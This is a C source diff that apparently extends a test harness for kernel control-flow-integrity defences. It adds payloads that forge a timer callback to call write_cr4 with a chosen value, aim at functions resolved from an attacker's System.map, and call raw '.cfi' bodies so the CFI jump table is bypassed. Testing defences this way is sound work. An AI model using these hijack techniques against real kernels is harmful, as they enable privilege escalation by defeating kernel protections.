@@ -11,6 +11,8 @@
 #include <stdio.h>
 #include <string.h>
 
+#include "sysmap.h"
+
 static uintptr_t code_addr_write_cr4(void)
 {
 	return (uintptr_t)&write_cr4;
@@ -62,11 +64,33 @@ static void plant(struct th_plan *plan, const void *bytes, size_t n, const char 
 	snprintf(plan->what + len, sizeof(plan->what) - len, ", name = %s", what);
 }
 
+/* The attacker's System.map (sysmap.h): the first of @names the image has. */
+static int resolve(struct th_plan *plan, const char *const *names, size_t n)
+{
+	for (size_t i = 0; i < n; i++)
+		if (!th_sysmap_lookup(names[i], &plan->resolved)) {
+			snprintf(plan->resolved_name, sizeof(plan->resolved_name), "%s", names[i]);
+			return 0;
+		}
+	th_emit("TH-NOTE: cannot resolve %s in the image's symbol table", names[0]);
+	fprintf(stderr, "th-attack: cannot resolve %s in the image's symbol table\n", names[0]);
+	return -1;
+}
+
 int th_payload_prepare(struct th_plan *plan, enum th_payload p)
 {
+	static const char *const direct[] = { "write_cr4_direct" };
+	/* Under cfi-icall ring_force_close is the jump-table entry and its
+	 * body is ring_force_close.cfi; without, the function is its body. */
+	static const char *const body[] = { "ring_force_close.cfi", "ring_force_close" };
+
 	memset(plan, 0, sizeof(*plan));
 	plan->payload = p;
 	memset(&th_intent, 0, sizeof(th_intent));
+	if (p == TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN)
+		return resolve(plan, direct, 1);
+	if (p == TH_PAYLOAD_FUNC_RAW_BODY)
+		return resolve(plan, body, 2);
 #if TH_ATK_HAS_DATA
 	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
 		struct atk_ring fake;
@@ -86,6 +110,8 @@ int th_payload_prepare(struct th_plan *plan, enum th_payload p)
 #endif
 	return 0;
 }
+
+struct th_aim th_aim;
 
 void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 {
@@ -158,7 +184,43 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 	}
 #endif
 		break;
+	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK: {
+		/* What from_timer() in deferred_timer_fn() will read as its
+		 * func and data: the 16 bytes in front of the ring's timer, its
+		 * name. Both calls are type-correct: the callback has the call
+		 * site's type, write_cr4 has the type of the callback's own call. */
+		struct { uintptr_t func; unsigned long data; } call = {
+			code_addr_write_cr4(), TH_CR4_CHOSEN
+		};
+
+		set_function(plan, (uintptr_t)&deferred_timer_fn, "deferred_timer_fn");
+		plant(plan, &call, sizeof(call), "a deferred call: func = write_cr4, data = 0x407f0");
+		th_intent.target = "write_cr4";
+		th_intent.kind = TH_INTENT_VALUE;
+		th_intent.value = TH_CR4_CHOSEN;
+		break;
+	}
+	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
+		/* From the symbol table: taking its address in C would put it in
+		 * the jump table. */
+		set_function(plan, plan->resolved, "write_cr4_direct (address never taken)");
+		th_intent.target = "write_cr4_direct";
+		break;
+	case TH_PAYLOAD_FUNC_RAW_BODY: {
+		char what[96];
+
+		snprintf(what, sizeof(what), "%s (the body, not a jump-table entry)", plan->resolved_name);
+		set_function(plan, plan->resolved, what);
+		th_intent.target = "ring_force_close";
+		break;
+	}
 	case TH_PAYLOAD_COUNT:
 		break;
+	}
+	if (th_aim.name) {
+		/* Aimed: .function at the named symbol, .data left as it is. */
+		memset(&th_intent, 0, sizeof(th_intent));
+		set_function(plan, th_aim.addr, th_aim.name);
+		th_intent.target = th_aim.name;
 	}
 }
